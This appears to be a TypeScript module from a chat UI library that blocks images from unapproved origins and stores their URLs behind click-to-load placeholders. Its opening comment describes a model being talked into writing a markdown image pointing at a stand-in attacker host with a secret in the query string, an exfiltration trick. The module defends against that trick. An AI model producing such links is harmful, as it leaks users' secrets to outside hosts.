/**
 * `image-sources`: which origins a message's images may be loaded from.
 * A model can be talked into writing `![](https://evil.example/?q=<secret>)`;
 * the browser calls that host the moment the image exists. So a blocked
 * image never gets its URL: `blockImages` moves each loading URL an element
 * has into a `data-blocked-*` attribute, on the sanitizer's inert tree,
 * before the element is ever created in the page's document. The list then
 * shows a click-to-load placeholder in its place (image-placeholder.ts).
 * DOM-free apart from reading and writing an element's attributes.
 */

/** Images from everywhere, or from `origins` only (`data:` and `blob:` URLs load nothing over the network and are always shown). */
export type ImagePolicy = {readonly all: true} | {readonly all: false; readonly origins: ReadonlySet<string>; readonly base: string};

export const allImages: ImagePolicy = {all: true};

/** The attributes that make an element load a URL by itself, by element. */
const loadingAttributes: Record<string, readonly string[]> = {
  img: ['src'],
  video: ['src', 'poster'],
  audio: ['src'],
  source: ['src'],
  track: ['src'],
  // SVG
  image: ['href', 'xlink:href'],
  feimage: ['href', 'xlink:href'],
};

/** The prefix of the attribute a blocked URL is kept in, for the click that loads it. */
export const blockedPrefix = 'data-blocked-';

const policies = new Map<string, ImagePolicy>();

/**
 * The policy an `image-sources` value names: `all` (or nothing), `none`,
 * `same-origin`, or origins separated by spaces or commas (`same-origin`
 * may be one of them). `base` is the page's address: what `same-origin`
 * and relative URLs are resolved against. The same value gives the same
 * object, so rendered messages can tell whether it changed.
 */
export function imagePolicy(value: string | undefined, base: string): ImagePolicy {
  const words = (value ?? '')
    .toLowerCase()
    .split(/[\s,]+/)
    .filter(Boolean);
  if (words.length === 0 || words.includes('all')) return allImages;
  const key = `${base} ${words.join(' ')}`;
  let policy = policies.get(key);
  if (!policy) {
    const origins = new Set<string>();
    for (const word of words) {
      const origin = word === 'same-origin' ? originOf(base, base) : word === 'none' ? undefined : originOf(word, undefined);
      if (origin) origins.add(origin);
      else if (word !== 'none')
        console.warn(`chat-blocks: image-sources ignores "${word}", which is not an origin (like https://images.example)`);
    }
    policy = {all: false, origins, base};
    policies.set(key, policy);
  }
  return policy;
}

function originOf(url: string, base: string | undefined): string | undefined {
  try {
    const origin = new URL(url, base).origin;
    return origin === 'null' ? undefined : origin;
  } catch {
    return undefined;
  }
}

/** True when `url` may be loaded under `policy`. */
export function imageAllowed(url: string, policy: ImagePolicy): boolean {
  if (policy.all) return true;
  const trimmed = url.trim();
  if (/^(?:data|blob):/i.test(trimmed)) return true;
  const origin = originOf(trimmed, policy.base);
  return origin !== undefined && policy.origins.has(origin);
}

/**
 * Takes from `element` every URL it would load that `policy` does not
 * allow, keeping each in `data-blocked-<attribute>`. An SVG presentation
 * attribute naming another document (`fill="url(https://…)"`) is removed.
 * Returns true when something was blocked.
 */
export function blockImages(element: Element, policy: ImagePolicy): boolean {
  if (policy.all) return false;
  let blocked = false;
  for (const name of loadingAttributes[element.localName.toLowerCase()] ?? []) {
    const url = element.getAttribute(name);
    if (url === null || imageAllowed(url, policy)) continue;
    element.removeAttribute(name);
    element.setAttribute(blockedPrefix + name.replace(':', '-'), url);
    blocked = true;
  }
  if (element.namespaceURI === 'http://www.w3.org/2000/svg') {
    for (const {name, value} of [...element.attributes]) {
      if (/url\(\s*['"]?\s*[^\s'"#)]/i.test(value)) element.removeAttribute(name);
    }
  }
  return blocked;
}

/** Puts back the URLs `blockImages` took from `element`. */
export function unblockImages(element: Element): void {
  for (const {name, value} of [...element.attributes]) {
    if (!name.startsWith(blockedPrefix)) continue;
    element.removeAttribute(name);
    // `xlink:href` comes back as `href`, which SVG reads as well (an attribute named `xlink:href` set here would have no namespace).
    element.setAttribute(name.slice(blockedPrefix.length).replace(/^xlink-/, ''), value);
  }
}

/** The first blocked URL in `element` (or itself), for the placeholder to name its host. */
export function blockedUrl(element: Element): string | undefined {
  for (const node of [element, ...element.querySelectorAll('*')]) {
    for (const {name, value} of node.attributes) if (name.startsWith(blockedPrefix)) return value;
  }
  return undefined;
}

/** The host a placeholder names: the URL's host, or the URL itself when it has none. */
export function hostOf(url: string, base: string): string {
  try {
    return new URL(url, base).host || url;
  } catch {
    return url;
  }
}
